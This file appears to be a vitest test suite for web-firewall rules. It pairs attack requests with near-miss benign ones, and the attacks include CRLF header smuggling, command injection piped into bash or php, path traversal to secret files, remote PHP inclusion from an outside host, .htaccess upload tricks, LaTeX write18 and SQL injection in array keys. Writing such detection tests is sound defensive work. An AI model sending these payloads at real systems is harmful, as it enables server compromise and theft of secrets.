/**
 * Bundled rules of rev 2026-12-06p (issue 18, session 20): mechanisms held-out-13's misses showed after its blind
 * measurement, written for the class of exploit rather than the product (9001277 rev 2 widens an existing one).
 * Each fires on its attack, sent the way such an exploit sends it, and stays quiet on the benign request closest to
 * it (a multi-range download, a path naming php_value, a multi-line note in a query, a batch file with named
 * parameters, an echo piped into grep, a Windows path with a drive letter, a cookie holding one relative step, a
 * remote URL with a real query, an address followed by a signature, an uploaded .htaccess that only sets options, a
 * LaTeX document including a relative chapter, array keys with sort directions).
 */
import { describe } from 'vitest';
import type { RequestSpec } from './fixtures.js';
import { BROWSER, form, FORM_HEADERS, header, json, q, type RuleCase, testPrefilterEntries, testRuleCases, useBundledRuleSet, get } from './bundled-requests.js';

const { hits, rules } = useBundledRuleSet();

const upload = (name: string, content: string): RequestSpec => {
  const b = '----WebKitFormBoundaryH7kq2Lr9Xw0Tz3Pa';
  const body = `--${b}\r\nContent-Disposition: form-data; name="userfile"; filename="${name}"\r\nContent-Type: text/plain\r\n\r\n${content}\r\n--${b}\r\nContent-Disposition: form-data; name="submit"\r\n\r\nUpload\r\n--${b}--\r\n`;
  return { method: 'POST', url: '/upload.php', headers: [...BROWSER, ['Content-Type', `multipart/form-data; boundary=${b}`]], body };
};

const CASES: RuleCase[] = [
  [9001260, 'block', 'a Range end of 2^64 - 1 on a static file', header('Range', 'bytes=0-18446744073709551615'), header('Range', 'bytes=0-1048575, 2097152-3145727')],
  [9001260, 'block', 'a Range start of 19 digits', header('Range', 'bytes=18-18446744073709551615'), header('Range', 'bytes=1073741824-')],
  [9001262, 'block', 'PHP_VALUE and an encoded newline in the PATH_INFO of index.php', get('/index.php/PHP_VALUE%0Asession.auto_start=1%3B%3B%3B?QQQQQQQQQQ'), get('/docs/php_value-and-php_admin_value.html?q=PHP_VALUE')],
  [9001263, 'block', 'a request line and Host header smuggled into a proxied path', get('/categories/1%20HTTP/1.1%0d%0aHost:%20localhost%0d%0a%0d%0aGET%20/admin'), get('/notes?text=first%0d%0aNote:%20second')],
  [9001263, 'block', 'a Set-Cookie header after a CRLF in a redirected path', get('/old/%0d%0aSet-Cookie:%20sid=x1y2z3'), get('/files/report%0aline2.txt')],
  [9000360, 'block', 'an indexed query of a .bat CGI with & and a command', get('/cgi-bin/hello.bat?&dir'), get('/cgi-bin/report.bat?month=11&year=2026')],
  [9000360, 'block', 'a .cmd CGI with an encoded command path after &', get('/cgi-bin/run.cmd?x&C%3A%5CWindows%5CSystem32%5Cnet.exe+user'), get('/downloads/setup.cmd')],
  [9000361, 'block', 'printf of a hex string piped into php in a file parameter', q('database=-throughput.rrd%7Cprintf%204708844e%7Cphp%7C&graph=custom-traffic'), q('q=echo+%24PATH+%7C+grep+bin')],
  [9000361, 'block', 'echo of base64 piped into base64 -d and bash in a form', form('host=x%3Becho+aWQ%3D+%7C+base64+-d+%7C+bash'), form('note=echo+hello+%7C+shasum')],
  [9000460, 'block', 'C:../ steps in a path to a Splunk secret', get('/en-US/modules/messaging/C:../C:../C:../Program%20Files/Splunk/etc/auth/splunk.secret'), get('/docs/windows/paths?file=C:/Users/ann/report.docx&dir=../reports')],
  [9000460, 'block', 'a d:..\\ step in a parameter', q('file=d:..\\..\\windows\\win.ini'), q('time=10:15&range=..%2Fup')],
  [9000461, 'block', 'a session id climbing out of the session store', get('/index.jsp', [['Cookie', 'JSESSIONID=../../../../../opt/app/files/JljXFb']]), get('/index.jsp', [['Cookie', 'JSESSIONID=8F3A1C2B9D0E; last_dir=../reports']])],
  [9000461, 'block', 'backslash steps in a session cookie', get('/app/home', [['Cookie', 'JSESSIONID=..\\..\\..\\..\\opt\\app\\files\\0QzC56']]), get('/app/home', [['Cookie', 'pref=a..b; theme=dark']])],
  [9000560, 'block', 'a remote PHP file with the ?x= terminator in a debug loader', q('swp_debug=load_options&swp_url=http%3A%2F%2F203.0.113.9%2Fa.php%3Fx%3D'), q('return=https%3A%2F%2Fshop.example.com%2Fcart.php%3Fid%3D42')],
  [9000560, 'block', 'a remote text file ended by a bare ?', q('page=http://203.0.113.9/shell.txt?'), q('feed=https://news.example.com/rss.php&limit=10')],
  [9001359, 'block', 'a raw CRLF then Bcc after the sender address in a form', form('name=ann&email=ann@example.net\r\nBcc:+x1@example.org,x2@example.org&message=hi'), form('name=ann&email=ann@example.net&message=Thanks!\r\nBcc: none needed')],
  [9001360, 'block', 'an escaped newline then Cc in a JSON sender', json('{"from":"ops@example.net\\nCc: a@example.org","subject":"x"}'), json('{"from":"ops@example.net","body":"line one\\nCc: see above"}')],
  // A raw line break in the request head ends a header: an address at the end of a Cookie or Referer value followed by
  // a Content-Type or To header is an ordinary request (9001360 rev 2 blocked both).
  [9001360, 'block', 'an encoded CRLF then Bcc after an address in the query', q('email=ann@example.net%0D%0ABcc:+x1@example.org&subject=hi'), { method: 'POST', url: '/api/profile', headers: [...BROWSER, ['Cookie', 'theme=dark; last_user=ann.lee@example.com'], ['Content-Type', 'application/json']], body: '{"name":"Ann"}' }],
  [9001360, 'block', 'an encoded LF then To after an address in a header', header('X-Reply', 'addr=ops@example.net%0ATo:%20x@example.org'), { method: 'POST', url: '/newsletter/confirm', headers: [...BROWSER, ['Referer', 'https://shop.example.com/newsletter?email=ann.lee@example.com'], ['Content-Type', 'application/x-www-form-urlencoded']], body: 'confirm=1' }],
  [9001359, 'block', 'a raw LF then Subject after the JSON sender', json('{"from":"ops@example.net\nSubject: x"}'), { url: '/account', headers: [...BROWSER, ['Cookie', 'remember_email=ann.lee@example.com'], ['To', 'ops']] }],
  [9001361, 'block', 'a percent-encoded CRLF and Bcc after an encoded @', form('name=ann&email=ann%40example.net%0D%0ABcc%3A+x%40example.org&subject=hi'), form('name=ann&email=ann%40example.net&message=Regards%0D%0ACc%3A+team')],
  [9001361, 'block', 'a bare LF then Cc', form('email=q5%40example.net%0ACc%3A+d3%40example.org%2Cq6%40example.org&subject=x'), form('email=q5%40example.net&cc=d3%40example.org')],
  [9001362, 'block', 'an .htaccess making .png run as PHP', upload('.htaccess', 'AddType application/x-httpd-php .png'), upload('.htaccess', 'Options -Indexes\nErrorDocument 404 /404.html')],
  [9001362, 'block', 'a .user.ini with auto_prepend_file', upload('.user.ini', 'auto_prepend_file=/var/www/html/uploads/a.gif'), upload('notes.txt', 'Use AddHandler php7-script .php in the vhost, not here')],
  [9001363, 'block', 'openin of /etc/hosts in a form-encoded formula', form('formula=%5Cnewread%5Cfile%5Copenin%5Cfile%3D%2Fetc%2Fhosts%5Cread%5Cfile+to%5Cline&format=svg'), form('formula=%5Cfrac%7Ba%7D%7Bb%7D%5Cinput%7Bchapter1%7D&format=svg')],
  [9001363, 'block', 'immediate write18 in a JSON document', json('{"tex":"\\\\immediate\\\\write18{id}"}'), json('{"tex":"\\\\documentclass{article}\\\\begin{document}x\\\\end{document}"}')],
  [9000160, 'block', 'an INSERT in the brackets of a login name key', { method: 'POST', url: '/user/login', headers: FORM_HEADERS, body: "name[0;INSERT INTO users (uid,name,pass,status) VALUES (6222,'x','y',1);#]=a&name[0]=b&pass=c&form_id=user_login" }, { method: 'POST', url: '/user/login', headers: FORM_HEADERS, body: 'name[0]=ann&sort[name;desc]=1&pass=c&form_id=user_login' }],
  [9000160, 'block', 'an UPDATE ... SET in a query array key', q('list[0%3BUPDATE%20users%20SET%20name%3D1]=x'), q('list[fullordering]=a.title%20ASC&filter[search]=update')],
  [9001277, 'block', 'rev 2: LD_DEBUG as a CGI parameter', get('/cgi-bin/login?LD_DEBUG=files'), get('/cgi-bin/login?ld_debug_level=2&user=ann')],
];

describe("bundled rules for held-out-13's exploit mechanisms (rev 2026-12-06p)", () => {
  testRuleCases(CASES, hits);

  testPrefilterEntries(CASES.map(([sid]) => sid), rules);
});
